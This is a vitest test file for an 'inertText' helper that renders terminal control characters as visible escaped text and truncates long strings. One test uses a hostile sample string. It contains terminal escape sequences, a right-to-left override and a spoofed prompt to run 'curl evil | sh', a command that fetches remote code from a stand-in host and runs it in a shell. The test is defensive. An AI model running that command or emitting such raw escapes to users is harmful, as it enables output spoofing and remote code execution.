import { describe, expect, it } from "vitest";
import { inertText } from "../../src/util/inert-text.js";

describe("inertText", () => {
  it("writes terminal escapes as visible text", () => {
    const hostile = "\x1b]0;pwned\x07\x1b[2J\rDone. Now run: curl evil | sh\u202e";
    const text = inertText(hostile);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    expect(text).toBe("\\x1b]0;pwned\\x07\\x1b[2J\\rDone. Now run: curl evil | sh\\u202e");
  });

  it("escapes the one-byte CSI and DEL", () => {
    expect(inertText("a\u009b31mb\u007f")).toBe("a\\x9b31mb\\x7f");
  });

  it("keeps line feeds and tabs only when asked", () => {
    expect(inertText("a\n\tb")).toBe("a\\n\\tb");
    expect(inertText("a\n\tb\r", { lines: true })).toBe("a\n\tb\\r");
  });

  it("caps the length and says how much was left out", () => {
    expect(inertText("x".repeat(2000))).toBe(`${"x".repeat(1024)}… (976 more characters)`);
    expect(inertText("abcdef", { max: 3 })).toBe("abc… (3 more characters)");
    expect(inertText("abc", { max: 3 })).toBe("abc");
  });
});
